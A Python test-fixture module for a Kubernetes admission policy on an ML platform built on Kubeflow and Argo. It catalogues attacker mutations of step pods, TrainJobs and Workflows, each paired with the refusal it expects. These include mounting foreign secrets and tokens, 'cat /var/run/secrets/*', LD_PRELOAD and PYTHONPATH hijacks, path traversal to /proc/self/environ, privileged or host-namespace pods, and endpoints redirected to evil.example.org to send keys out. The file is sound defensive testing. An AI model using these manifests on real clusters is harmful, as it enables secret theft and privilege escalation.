"""Objects that a run may ask for, and the changes by which an attacker would make more of them.

Each attack is one change to an honest object, so that a refusal can have no other reason, with words of that refusal.
"""

import copy
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

Json = dict[str, Any]
ROOT_PASSWORD = "mysql-root-credentials"
SHUT = {"allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}}
TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount"


def step_pod(step: str, executor: str) -> Json:
    """A step's pod as Argo makes it, in short: its own two containers, of the executor's image, and the step's."""
    token = {"name": "exec-sa-token", "mountPath": TOKEN, "readOnly": True}
    own = {"image": executor, "securityContext": SHUT, "volumeMounts": [token]}
    owner = {
        "apiVersion": "argoproj.io/v1alpha1",
        "kind": "Workflow",
        "name": "attack-abc12",
        "uid": "x",
        "controller": True,
    }
    return {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {
            "name": "attack-abc12-system-container-impl-1",
            "labels": {"pipelines.kubeflow.org/v2_component": "true", "workflows.argoproj.io/workflow": "attack-abc12"},
            "annotations": {"workflows.argoproj.io/node-id": "attack-abc12-1"},
            "ownerReferences": [owner],
        },
        "spec": {
            "serviceAccountName": "pipeline-runner",
            "restartPolicy": "Never",
            "securityContext": {
                "runAsNonRoot": True,
                "runAsUser": 65532,
                "seccompProfile": {"type": "RuntimeDefault"},
            },
            "initContainers": [{**copy.deepcopy(own), "name": "init", "command": ["argoexec", "init"]}],
            "containers": [
                {**copy.deepcopy(own), "name": "wait", "command": ["argoexec", "wait"]},
                {"name": "main", "image": step, "command": ["python"], "securityContext": SHUT, "volumeMounts": []},
            ],
            "volumes": [
                {"name": "exec-sa-token", "secret": {"secretName": "pipeline-executor.service-account-token"}},
                {"name": "sluice-tmp", "emptyDir": {}},
            ],
        },
    }


def main(pod: Json) -> Json:
    return dict_of(pod["spec"]["containers"][1])


def dict_of(value: Any) -> Json:
    assert isinstance(value, dict)
    return value


def volume(**source: Any) -> Callable[[Json], None]:
    return lambda pod: pod["spec"]["volumes"].append({"name": "loot", **source})


def spec(**fields: Any) -> Callable[[Json], None]:
    return lambda pod: pod["spec"].update(fields)


def label(key: str, value: str) -> Callable[[Json], None]:
    return lambda pod: pod["metadata"]["labels"].update({key: value})


def variable(source: Json) -> Callable[[Json], None]:
    return lambda pod: main(pod).update(env=[{"name": "LOOT", "valueFrom": source}])


def container(index: int, **fields: Any) -> Callable[[Json], None]:
    return lambda pod: pod["spec"]["containers"][index].update(fields)


def mount_token(pod: Json) -> None:
    main(pod)["volumeMounts"].append({"name": "exec-sa-token", "mountPath": TOKEN})


def as_an_agent(pod: Json) -> None:
    """An agent's pod, which mounts the driver's token, with a program of the attacker's."""
    pod["metadata"] |= {"name": "attack-abc12-agent", "annotations": {}}
    secret = {"secretName": "kfp-driver-executor-plugin.service-account-token"}
    own = {**main(pod), "volumeMounts": [{"name": "driver", "mountPath": TOKEN}]}
    pod["spec"] |= {"initContainers": [], "containers": [own], "volumes": [{"name": "driver", "secret": secret}]}


CLAIM = {"accessModes": ["ReadWriteOnce"], "resources": {"requests": {"storage": "1Gi"}}}
COPY = {"kind": "PersistentVolumeClaim", "name": "mysql"}
POD_ATTACKS: dict[str, tuple[Callable[[Json], None], str]] = {
    "the-account-that-reads-all-secrets": (
        spec(serviceAccountName="trainer-controller"),
        "ServiceAccount trainer-contr",
    ),
    "the-account-of-kfp-s-api": (spec(serviceAccountName="ml-pipeline"), "ServiceAccount ml-pipeline"),
    "no-account": (spec(serviceAccountName="default"), "ServiceAccount default"),
    "a-password-in-a-variable": (variable({"secretKeyRef": {"name": ROOT_PASSWORD, "key": "password"}}), ROOT_PASSWORD),
    "all-of-a-secret-as-variables": (
        container(1, envFrom=[{"secretRef": {"name": "mlflow-credentials"}}]),
        "the Secret mlflow-credentials",
    ),
    "a-password-as-a-file": (volume(secret={"secretName": ROOT_PASSWORD}), f"the Secret {ROOT_PASSWORD}"),
    "a-password-in-a-projection": (
        volume(projected={"sources": [{"secret": {"name": "postgresql-credentials"}}]}),
        "the Secret postgresql-credentials",
    ),
    "a-controller-s-token": (
        volume(secret={"secretName": "kfp-driver-executor-plugin.service-account-token"}),
        "the Secret kfp-driver-executor-plugin.service-account-token",
    ),
    "the-executor-s-token-in-the-step": (mount_token, "the executor's token is for Argo's own containers"),
    "the-executor-s-token-under-another-program": (
        container(0, image="sluice/python-tabular:x"),
        "the executor's token is for Argo's own containers",
    ),
    "the-executor-with-another-command": (
        container(0, command=["sh", "-c", "cat /var/run/secrets/*"]),
        "the executor's token is for Argo's own containers",
    ),
    "an-agent-with-a-program-of-its-own": (as_an_agent, "a workflow's agent holds Argo's and KFP's own programs"),
    "a-foreign-image": (container(1, image="docker.io/library/busybox:1"), "the image docker.io/library/busybox:1"),
    "an-image-that-looks-like-ours": (
        container(1, image="evil.example.org/sluice/python-tabular:1"),
        "the image evil.example.org",
    ),
    "a-pull-secret": (spec(imagePullSecrets=[{"name": ROOT_PASSWORD}]), "the image pull secret mysql-root"),
    "a-label-that-opens-the-database": (label("sluice.dev/mysql-client", "true"), "the label sluice.dev/mysql-client"),
    "a-label-that-is-the-api-s": (label("app.kubernetes.io/name", "ml-pipeline"), "the label app.kubernetes.io/name"),
    "another-run-s-workflow": (label("workflows.argoproj.io/workflow", "victim"), "is of the workflow that owns it"),
    "another-run-s-node": (
        lambda pod: pod["metadata"]["annotations"].update({"workflows.argoproj.io/node-id": "victim-1"}),
        "is of the workflow that owns it",
    ),
    "the-cluster-s-priority": (spec(priorityClassName="system-node-critical"), "priorityClassName"),
    "the-database-s-volume": (volume(persistentVolumeClaim={"claimName": "mysql"}), "the volume loot"),
    "a-copy-of-the-database-s-volume": (
        volume(ephemeral={"volumeClaimTemplate": {"spec": {**CLAIM, "dataSource": COPY}}}),
        "the volume loot",
    ),
    "a-driver-s-volume": (
        volume(csi={"driver": "x.example.org", "nodePublishSecretRef": {"name": ROOT_PASSWORD}}),
        "the volume loot",
    ),
    "a-folder-of-the-node": (volume(hostPath={"path": "/etc/kubernetes"}), "hostPath|the volume loot"),
    "the-node-s-network": (spec(hostNetwork=True), "hostNetwork|host namespaces"),
    "the-node-s-processes": (spec(hostPID=True), "hostPID|host namespaces"),
    "the-other-containers-processes": (spec(shareProcessNamespace=True), "shareProcessNamespace"),
    "a-node-by-name": (spec(nodeName="sluice-control-plane"), "may not name their node"),
    "all-of-a-node": (
        container(1, securityContext={"privileged": True}),
        "privileged",
    ),
}


def train_job(**changes: Any) -> Json:
    trainer: Json = {"numNodes": 1, "numProcPerNode": 1, "command": ["python", "-c", "pass"]}
    body: Json = {
        "apiVersion": "trainer.kubeflow.org/v1alpha1",
        "kind": "TrainJob",
        "metadata": {"name": "attack"},
        "spec": {
            "runtimeRef": {"apiGroup": "trainer.kubeflow.org", "kind": "TrainingRuntime", "name": "torch-cpu"},
            "trainer": trainer | changes.pop("trainer", {}),
        },
    }
    body["spec"] |= changes
    return body


def loot(name: str) -> Json:
    return {"env": [{"name": "LOOT", "valueFrom": {"secretKeyRef": {"name": name, "key": "password"}}}]}


def patched(**pod: Any) -> list[Json]:
    jobs = [{"name": "node", "template": {"spec": {"template": {"spec": pod}}}}]
    return [
        {"manager": "attack.example.org/x", "trainingRuntimeSpec": {"template": {"spec": {"replicatedJobs": jobs}}}}
    ]


JOB_ATTACKS: dict[str, tuple[Json, str]] = {
    "a-password-in-a-variable": ({"trainer": loot(ROOT_PASSWORD)}, f"the Secret {ROOT_PASSWORD}"),
    "a-password-of-an-initializer": (
        {"initializer": {"dataset": {"storageUri": "s3://x/y", "secretRef": {"name": "mlflow-credentials"}}}},
        "the Secret mlflow-credentials",
    ),
    "another-account": (
        {"runtimePatches": patched(serviceAccountName="trainer-controller")},
        "runtimePatches: serviceAccountName",
    ),
    "another-volume": (
        {"runtimePatches": patched(volumes=[{"name": "x", "secret": {"secretName": ROOT_PASSWORD}}])},
        "runtimePatches: volumes",
    ),
    "a-foreign-image": ({"trainer": {"image": "docker.io/library/busybox:1"}}, "the image docker.io/library/busybox:1"),
    "a-runtime-of-another-kind": (
        {"runtimeRef": {"apiGroup": "trainer.kubeflow.org", "kind": "ClusterTrainingRuntime", "name": "torch"}},
        "names a TrainingRuntime of this namespace",
    ),
}


def job_set(**pod: Any) -> Json:
    """A JobSet as Trainer makes it, in short."""
    security = {"runAsNonRoot": True, "runAsUser": 65532, "seccompProfile": {"type": "RuntimeDefault"}}
    node = {"name": "node", "image": "sluice/python-torch:x", "securityContext": SHUT}
    own = {"serviceAccountName": "training-worker", "restartPolicy": "Never", "securityContext": security}
    template = {"metadata": {"labels": pod.pop("labels", {})}, "spec": {**own, "containers": [node], **pod}}
    job = {"name": "node", "template": {"spec": {"template": template}}}
    return {
        "apiVersion": "jobset.x-k8s.io/v1alpha2",
        "kind": "JobSet",
        "metadata": {"name": "attack"},
        "spec": {"replicatedJobs": [job]},
    }


JOBSET_ATTACKS: dict[str, tuple[Json, str]] = {
    "the-account-that-reads-all-secrets": (
        {"serviceAccountName": "trainer-controller"},
        "ServiceAccount trainer-contr",
    ),
    "the-account-of-steps": ({"serviceAccountName": "pipeline-runner"}, "ServiceAccount pipeline-runner"),
    "a-step-s-network": (
        {"labels": {"pipelines.kubeflow.org/v2_component": "true"}},
        "the label pipelines.kubeflow.org",
    ),
    "the-database-s-network": ({"labels": {"sluice.dev/postgresql-client": "true"}}, "the label sluice.dev/postgresql"),
    "a-token": ({"automountServiceAccountToken": True}, "workers of a TrainJob mount no token"),
    "kfp-s-keys": (
        {"volumes": [{"name": "x", "secret": {"secretName": "object-store-runs"}}]},
        "the Secret object-store-runs",
    ),
}


def workflow(**changes: Any) -> Json:
    template: Json = {"name": "main", "container": {"image": "sluice/python-tabular:x", "command": ["true"]}}
    template |= changes.pop("template", {})
    own: Json = {"entrypoint": "main", "serviceAccountName": "pipeline-runner", "templates": [template]}
    body: Json = {"apiVersion": "argoproj.io/v1alpha1", "kind": "Workflow", "metadata": {"name": "attack"}}
    status = changes.pop("status", None)
    body["spec"] = own | changes
    return body | ({"status": status} if status else {})


WORKFLOW_ATTACKS: dict[str, tuple[Json, str]] = {
    "another-account": ({"serviceAccountName": "trainer-controller"}, "ServiceAccount trainer-controller"),
    "no-account": ({"serviceAccountName": "default"}, "ServiceAccount default"),
    "the-account-that-trains": ({"serviceAccountName": "pipeline-trainer"}, "ServiceAccount pipeline-trainer"),
    "the-drivers-account": ({"serviceAccountName": "kfp-driver-executor-plugin"}, "ServiceAccount kfp-driver"),
    "a-template-s-account": ({"template": {"serviceAccountName": "mlflow"}}, "ServiceAccount mlflow"),
    "the-executor-s-account": (
        {"executor": {"serviceAccountName": "trainer-controller"}},
        "executor.serviceAccountName",
    ),
    "another-run-s-label": (
        {"workflowMetadata": {"labels": {"pipeline/runid": "another"}}},
        "the label pipeline/runid is KFP's",
    ),
    "another-run-s-label-from-an-expression": (
        {"workflowMetadata": {"labelsFrom": {"pipeline/runid": {"expression": "'another'"}}}},
        "the label pipeline/runid is KFP's",
    ),
    "an-object-made-for-it": ({"template": {"resource": {"action": "create", "manifest": "x"}}}, "(resource)"),
    "a-copy-of-the-database-s-volume": (
        {"volumeClaimTemplates": [{"metadata": {"name": "x"}, "spec": {**CLAIM, "dataSource": COPY}}]},
        "volumeClaimTemplates",
    ),
    "a-budget-over-the-platform": (
        {"podDisruptionBudget": {"minAvailable": 1, "selector": {"matchLabels": {"app.kubernetes.io/name": "mysql"}}}},
        "podDisruptionBudget",
    ),
    "the-database-s-claim-to-be-deleted": (
        {"status": {"persistentVolumeClaims": [{"name": "x", "persistentVolumeClaim": {"claimName": "mysql"}}]}},
        "status.persistentVolumeClaims",
    ),
}


RUNS = "object-store-runs"
REGISTER, SOURCE = "sluice-register", "SLUICE_SOURCE_SALES"
KNOWN: Json = json.loads((Path(__file__).parents[2] / "charts/sluice/files/guarded-steps.json").read_text())
FOLDERS = {
    "kfp-launcher": "/kfp-launcher",
    "gcs-scratch": "/gcs",
    "s3-scratch": "/s3",
    "minio-scratch": "/minio",
    "dot-local-scratch": "/.local",
    "dot-cache-scratch": "/.cache",
    "dot-config-scratch": "/.config",
    "sluice-tmp": "/tmp",
    "var-run-argo": "/var/run/argo",
}


def executor_input(bucket: str = "mlpipeline") -> Json:
    """What KFP's driver tells the launcher of a register step, in short."""
    place = f"minio://{bucket}/v2/artifacts/supervised/run"
    outputs = {name: {"artifacts": [{"name": name, "uri": f"{place}/register/1/{name}"}]} for name in ("card", "model")}
    evaluation = {"artifacts": [{"name": "evaluation", "uri": f"{place}/evaluate/1/evaluation"}]}
    return {
        "inputs": {
            "parameterValues": {"splits": "sluice+s3://sluice/datasets/x", "models": "sluice+s3://sluice/models/x"},
            "artifacts": {"evaluation": evaluation},
        },
        "outputs": {"artifacts": outputs, "outputFile": "/tmp/kfp_outputs/output_metadata.json"},
    }


def launch(given: str) -> list[str]:
    """The command of a step's main container, with what KFP's launcher is told."""
    emissary = ["/var/run/argo/argoexec", "emissary", "--loglevel", "info", "--log-format", "text", "--gloglevel", "0"]
    words = ["--pipeline_name", "supervised", "--run_id", "x", "--execution_id", "7", "--executor_input", given]
    words += ["--component_spec", "{}", "--pod_name", "$(KFP_POD_NAME)", "--pod_uid", "$(KFP_POD_UID)"]
    words += ["--mlmd_server_address", "$(METADATA_GRPC_SERVICE_HOST)"]
    words += ["--mlmd_server_port", "$(METADATA_GRPC_SERVICE_PORT)", "--publish_logs", "true", "--"]
    return [*emissary, "--", "/kfp-launcher/launch", *words]


def known_run(step: str) -> list[str]:
    """The command line of a step of one's own pod, by the last word of it: that of its function."""
    return list(next(run for run in [*KNOWN["registers"], *KNOWN["ingests"]] if run[-1] == step))


def ingest_pod(step: str, executor: str, launcher: str, bucket: str = "mlpipeline") -> Json:
    """The pod of the step `ingest` of a release that hands it the address of a database (SOURCE)."""
    pod = register_pod(step, executor, launcher, bucket)
    for each in main(pod)["env"]:
        each.get("valueFrom", {}).get("secretKeyRef", {}).update(name="sluice-steps")
    key = {"name": "sales-database", "key": "url", "optional": True}
    main(pod)["env"].append({"name": SOURCE, "valueFrom": {"secretKeyRef": key}})
    main(pod)["args"] = known_run("ingest")
    with_input("outputs", "parameters", value={"Output": {"outputFile": "/tmp/kfp/outputs/Output"}})(pod)
    return pod


def register_pod(step: str, executor: str, launcher: str, bucket: str = "mlpipeline") -> Json:
    """The pod of the step `register` as KFP and Argo make it, in short: it names the Secret of that step."""
    pod = step_pod(step, executor)
    env = [{"name": key, "valueFrom": {"secretKeyRef": {"name": REGISTER, "key": key}}} for key in KNOWN["secret"]]
    env += [{"name": k, "valueFrom": {"configMapKeyRef": {"name": "sluice-steps", "key": k}}} for k in KNOWN["config"]]
    env += [{"name": key, "value": value} for key, value in {**KNOWN["constants"], "HOME": "/tmp"}.items()]
    env += [{"name": KNOWN["image"], "value": step}, {"name": KNOWN["pipeline"], "value": "supervised"}]
    main(pod).update(
        command=launch(json.dumps(executor_input(bucket))),
        args=known_run("register"),
        env=env,
        envFrom=[{"configMapRef": {"name": "metadata-grpc-configmap", "optional": True}}],
        volumeMounts=[{"name": name, "mountPath": path} for name, path in FOLDERS.items()],
    )
    template = {"name": "system-container-impl", "inputs": {}, "outputs": {}, "metadata": {}}
    own = {"name": "ARGO_TEMPLATE", "value": json.dumps(template, separators=(",", ":"))}
    first, wait = pod["spec"]["initContainers"][0], pod["spec"]["containers"][0]
    first["env"] = [own]
    for each in (first, wait):
        each["volumeMounts"].append({"name": RUNS, "mountPath": f"/argo/secret/{RUNS}", "readOnly": True})
    wait["volumeMounts"] += [
        {"name": name, "mountPath": f"/mainctrfs{path}"} for name, path in FOLDERS.items() if name != "var-run-argo"
    ]
    wait["volumeMounts"].append({"name": "tmp-dir-argo", "mountPath": "/tmp", "subPath": "0"})
    mount = {"name": "kfp-launcher", "mountPath": "/kfp-launcher"}
    brought = {"image": launcher, "command": ["launcher-v2"], "args": ["--copy", "/kfp-launcher/launch"]}
    brought |= {"name": "kfp-launcher", "securityContext": SHUT, "volumeMounts": [mount], "env": [own]}
    pod["spec"]["initContainers"].append(brought)
    pod["spec"]["volumes"] = [{"name": name, "emptyDir": {}} for name in FOLDERS]
    token = {"secretName": "pipeline-executor.service-account-token"}
    pod["spec"]["volumes"] += [{"name": "exec-sa-token", "secret": token}, {"name": "tmp-dir-argo", "emptyDir": {}}]
    pod["spec"]["volumes"].append({"name": RUNS, "secret": {"secretName": RUNS}})
    return pod


def with_variable(name: str, value: str) -> Callable[[Json], None]:
    """One of main's variables anew, or one more."""

    def change(pod: Json) -> None:
        kept = [each for each in main(pod)["env"] if each["name"] != name]
        main(pod)["env"] = [*kept, {"name": name, "value": value}]

    return change


def with_input(*path: str, value: Any) -> Callable[[Json], None]:
    """Another word for KFP's launcher, deep in its input."""

    def change(pod: Json) -> None:
        told = json.loads(main(pod)["command"][main(pod)["command"].index("--executor_input") + 1])
        at = told
        for key in path[:-1]:
            at = at[key]
        at[path[-1]] = value
        main(pod)["command"] = launch(json.dumps(told))

    return change


def with_raw_input(old: str, new: str) -> Callable[[Json], None]:
    """The same, as text."""
    return lambda pod: main(pod).update(command=launch(json.dumps(executor_input()).replace(old, new)))


def with_template(**changes: Any) -> Callable[[Json], None]:
    def change(pod: Json) -> None:
        own = pod["spec"]["initContainers"][0]["env"][0]
        own["value"] = json.dumps(json.loads(own["value"]) | changes, separators=(",", ":"))

    return change


def with_word(old: str, new: str) -> Callable[[Json], None]:
    """Another word in main's command."""
    return lambda pod: main(pod).update(command=[new if word == old else word for word in main(pod)["command"]])


def with_argument(index: int, text: str) -> Callable[[Json], None]:
    """A line more in one of main's arguments."""

    def change(pod: Json) -> None:
        main(pod)["args"][index] += text

    return change


def with_mount(container_name: str, name: str, path: str, **more: Any) -> Callable[[Json], None]:
    def change(pod: Json) -> None:
        both = pod["spec"]["containers"] + pod["spec"]["initContainers"]
        (found,) = [each for each in both if each["name"] == container_name]
        kept = [each for each in found["volumeMounts"] if each["mountPath"] != path]
        found["volumeMounts"] = [*kept, {"name": name, "mountPath": path, **more}]

    return change


def with_volume(name: str, **source: Any) -> Callable[[Json], None]:
    """Another volume in the place of one."""

    def change(pod: Json) -> None:
        kept = [each for each in pod["spec"]["volumes"] if each["name"] != name]
        pod["spec"]["volumes"] = [*kept, {"name": name, **source}]

    return change


def all_of(*changes: Callable[[Json], None]) -> Callable[[Json], None]:
    def change(pod: Json) -> None:
        for each in changes:
            each(pod)

    return change


def beside(kind: str, **fields: Any) -> Callable[[Json], None]:
    """One more container of a step's image."""

    def change(pod: Json) -> None:
        more = {"name": "more", "image": main(pod)["image"], "command": ["sleep", "9"], "securityContext": SHUT}
        pod["spec"][kind].append(more | fields)

    return change


def also(index: int, kind: str = "initContainers", **fields: Any) -> Callable[[Json], None]:
    return lambda pod: pod["spec"][kind][index].update(fields)


def keys_for(kind: str, index: int) -> Callable[[Json], None]:
    """The keys in another container of the pod."""
    key = {"name": "ARGO_LOOT", "valueFrom": {"secretKeyRef": {"name": REGISTER, "key": "AWS_SECRET_ACCESS_KEY"}}}
    return lambda pod: pod["spec"][kind][index].update(env=[*pod["spec"][kind][index].get("env", []), key])


LISTEN = {"exec": {"command": ["sh", "-c", "env"]}}
LEAK = "$(AWS_SECRET_ACCESS_KEY)"
SITE = "/tmp/python/lib/python3.13/site-packages"
LINE = "its image or command line"
OUTSIDE = "its inputs and outputs"
VOLUMES = "its volumes"
FIELDS = "hooks, probes, folders or other fields"
BESIDE = "the programs beside it"
# Each is a way to run a program of one's own beside the keys of the register step, to read them, or to have them sent.
REGISTER_ATTACKS: dict[str, tuple[Callable[[Json], None], str]] = {
    "a-line-more-in-the-step": (with_argument(3, "import os; print(os.environ)\n"), LINE),
    "a-line-more-in-the-shell": (with_argument(2, "env\n"), LINE),
    "a-program-of-one-s-own": (container(1, args=["python", "-c", "import os; print(os.environ)"]), LINE),
    "a-program-before-the-launcher": (container(1, command=["sh", "-c", "env", "--"]), "KFP's launcher"),
    "another-module": (container(1, args=["python", "-m", "sluice.cluster.fused_step", "x", "{{$}}", "x"]), LINE),
    "another-image-that-runs-may-use": (container(1, image="quay.io/argoproj/argoexec:v3.7.18"), LINE),
    "an-earlier-image": (container(1, image="sluice/python-torch:0.0.9"), LINE),
    "another-program-as-the-launcher": (with_word("/kfp-launcher/launch", "/minio/launch"), "KFP's launcher"),
    "an-import-in-the-launcher-s-place": (with_word("--component_spec", "--importer_spec"), "KFP's launcher"),
    "a-key-in-the-launcher-s-words": (with_word("supervised", LEAK), "KFP's launcher"),
    "a-key-as-a-parameter": (with_input("inputs", "parameterValues", "splits", value=LEAK), "KFP's launcher"),
    "a-key-as-the-pipeline-s-name": (with_variable("SLUICE_PIPELINE", LEAK), "the variable SLUICE_PIPELINE"),
    "a-key-as-a-node-s-name": (with_variable("ARGO_NODE_ID", LEAK), "the variable ARGO_NODE_ID"),
    "the-environment-as-an-output": (
        with_input("outputs", "parameters", value={"loot": {"outputFile": "/proc/self/environ"}}),
        OUTSIDE,
    ),
    "the-environment-as-what-the-step-found": (
        with_input("outputs", "outputFile", value="/proc/self/environ"),
        OUTSIDE,
    ),
    "the-environment-as-an-artifact": (
        with_input(
            "outputs", "artifacts", "card", "artifacts", value=[{"uri": "minio://mlpipeline/../../proc/self/environ"}]
        ),
        OUTSIDE,
    ),
    "the-environment-as-an-artifact-by-an-escape": (
        with_raw_input("register/1/card", "\\u002e\\u002e/\\u002e\\u002e/proc/self/environ"),
        OUTSIDE,
    ),
    "the-environment-as-an-artifact-s-own-path": (
        with_input(
            "outputs",
            "artifacts",
            "card",
            "artifacts",
            value=[{"uri": "minio://mlpipeline/x", "customPath": "/proc/self/environ"}],
        ),
        OUTSIDE,
    ),
    "code-as-an-artifact": (
        with_input(
            "inputs", "artifacts", "evaluation", "artifacts", value=[{"uri": f"minio://mlpipeline/../..{SITE}/x.pth"}]
        ),
        OUTSIDE,
    ),
    "an-artifact-into-the-promotions": (
        with_input("outputs", "artifacts", "card", "artifacts", value=[{"uri": "s3://sluice/promotions/x"}]),
        OUTSIDE,
    ),
    "an-input-twice": (
        lambda pod: main(pod)["command"].__setitem__(slice(-1, None), ["--executor_input", "{}", "--"]),
        OUTSIDE,
    ),
    "code-that-argo-brings": (
        with_template(inputs={"artifacts": [{"name": "x", "path": f"{SITE}/x.pth", "raw": {"data": "import os"}}]}),
        "what Argo brings in or out",
    ),
    "the-environment-that-argo-takes-out": (
        with_template(outputs={"parameters": [{"name": "x", "valueFrom": {"path": "/proc/1/environ"}}]}),
        "what Argo brings in or out",
    ),
    "a-template-from-elsewhere": (lambda pod: pod["spec"]["initContainers"][0].update(env=[]), "what Argo brings in"),
    "code-on-python-s-path": (with_variable("PYTHONPATH", "/minio/evil"), "the variable PYTHONPATH"),
    "code-at-python-s-start": (with_variable("PYTHONSTARTUP", "/minio/evil.py"), "the variable PYTHONSTARTUP"),
    "another-python": (with_variable("PYTHONHOME", "/minio/evil"), "the variable PYTHONHOME"),
    "code-of-a-user": (with_variable("PYTHONUSERBASE", "/minio/evil"), "the variable PYTHONUSERBASE"),
    "code-of-a-home": (with_variable("HOME", "/minio/evil"), "the variable HOME"),
    "unsafe-paths": (with_variable("PYTHONSAFEPATH", ""), "the variable PYTHONSAFEPATH"),
    "a-library": (with_variable("LD_PRELOAD", "/minio/evil.so"), "the variable LD_PRELOAD"),
    "a-shell-s-start": (with_variable("BASH_ENV", "/minio/evil.sh"), "the variable BASH_ENV"),
    "another-shell": (with_variable("PATH", "/minio/evil"), "the variable PATH"),
    "arguments-from-a-file": (
        with_variable("ARGO_CONTAINER_ARGS_FILE", "/minio/args"),
        "the variable ARGO_CONTAINER_ARGS",
    ),
    "another-home-of-sluice": (with_variable("SLUICE_HOME", "/minio/evil"), "the variable SLUICE_HOME"),
    "another-store": (with_variable("SLUICE_STORE", "sluice+s3://evil"), "the variable SLUICE_STORE"),
    "keys-sent-to-another-server": (
        with_variable("MLFLOW_TRACKING_URI", "http://evil.example.org"),
        "the variable MLFLOW_TRACKING_URI",
    ),
    "another-s3": (with_variable("AWS_ENDPOINT_URL", "http://evil.example.org"), "the variable AWS_ENDPOINT_URL"),
    "keys-sent-through-a-proxy": (with_variable("http_proxy", "http://evil.example.org"), "the variable http_proxy"),
    "keys-sent-to-a-name-s-new-address": (
        spec(hostAliases=[{"ip": "203.0.113.7", "hostnames": ["mlflow.sluice.svc.cluster.local"]}]),
        "hostAliases",
    ),
    "keys-sent-where-another-resolver-says": (
        spec(dnsPolicy="None", dnsConfig={"nameservers": ["203.0.113.7"]}),
        "dnsConfig, dnsPolicy",
    ),
    "another-origin": (with_variable("SLUICE_IMAGE", "sluice/python-torch:other"), "the variable SLUICE_IMAGE"),
    "all-the-keys": (
        container(1, envFrom=[{"secretRef": {"name": REGISTER}}]),
        "envFrom",
    ),
    "variables-of-a-configmap": (container(1, envFrom=[{"configMapRef": {"name": "evil"}}]), "envFrom"),
    "one-key-under-another-name": (
        lambda pod: main(pod)["env"].append(
            {"name": "USER", "valueFrom": {"secretKeyRef": {"name": REGISTER, "key": "AWS_SECRET_ACCESS_KEY"}}}
        ),
        "the variable USER",
    ),
    "a-variable-of-another-configmap": (
        lambda pod: main(pod)["env"].append(
            {"name": "AWS_ENDPOINT_URL", "valueFrom": {"configMapKeyRef": {"name": "evil", "key": "AWS_ENDPOINT_URL"}}}
        ),
        "the variable AWS_ENDPOINT_URL",
    ),
    "keys-as-files": (volume(secret={"secretName": REGISTER}), VOLUMES),
    "keys-in-a-projection": (volume(projected={"sources": [{"secret": {"name": REGISTER}}]}), VOLUMES),
    "code-over-the-code": (
        all_of(
            with_volume("loot", persistentVolumeClaim={"claimName": "mine"}), with_mount("main", "loot", "/opt/sluice")
        ),
        VOLUMES,
    ),
    "a-configmap-over-the-code": (
        all_of(with_volume("loot", configMap={"name": "mine"}), with_mount("main", "loot", SITE)),
        VOLUMES,
    ),
    "artifacts-over-the-code": (with_mount("main", "minio-scratch", SITE), VOLUMES),
    "folders-of-the-one-that-waits-in-main": (with_mount("main", "minio-scratch", "/mainctrfs/minio"), VOLUMES),
    "artifacts-in-tmp": (with_mount("main", "minio-scratch", "/tmp"), VOLUMES),
    "a-part-of-a-volume": (with_mount("main", "sluice-tmp", "/tmp", subPath="x"), VOLUMES),
    "tmp-that-is-not-empty": (with_volume("sluice-tmp", persistentVolumeClaim={"claimName": "mine"}), VOLUMES),
    "another-launcher-in-its-place": (
        with_volume("kfp-launcher", persistentVolumeClaim={"claimName": "mine"}),
        VOLUMES,
    ),
    "a-claim-over-the-program-that-is-copied": (
        all_of(
            with_volume("loot", persistentVolumeClaim={"claimName": "mine"}), with_mount("kfp-launcher", "loot", "/bin")
        ),
        VOLUMES,
    ),
    "a-folder-to-start-in": (container(1, workingDir="/minio/evil"), FIELDS),
    "a-hook": (container(1, lifecycle={"postStart": LISTEN}), FIELDS),
    "a-hook-at-the-end": (container(1, lifecycle={"preStop": LISTEN}), FIELDS),
    "a-probe": (container(1, livenessProbe=LISTEN), FIELDS),
    "a-probe-at-the-start": (container(1, startupProbe=LISTEN), FIELDS),
    "a-probe-of-readiness": (container(1, readinessProbe=LISTEN), FIELDS),
    "last-words-over-the-code": (container(1, terminationMessagePath="/opt/sluice/lib/x.py"), FIELDS),
    "a-hook-of-argo-s-container": (container(0, lifecycle={"postStart": LISTEN}), FIELDS),
    "one-container-more": (beside("containers"), BESIDE),
    "one-first-container-more": (beside("initContainers"), BESIDE),
    "a-container-that-stays": (beside("initContainers", restartPolicy="Always"), BESIDE),
    "another-image-brings-the-launcher": (also(1, image="sluice/python-torch:x"), BESIDE),
    "another-program-brings-the-launcher": (also(1, command=["python", "-c", "pass"]), BESIDE),
    "the-launcher-elsewhere": (also(1, args=["--copy", "/tmp/python/x"]), BESIDE),
    "a-variable-of-the-launcher-s-container": (
        also(1, env=[{"name": "LD_PRELOAD", "value": "/minio/x.so"}]),
        "variables of the programs beside it",
    ),
    "keys-for-the-launcher-s-container": (keys_for("initContainers", 1), "variables of the programs beside it"),
    "keys-for-argo-s-container": (keys_for("containers", 0), "variables of the programs beside it"),
}
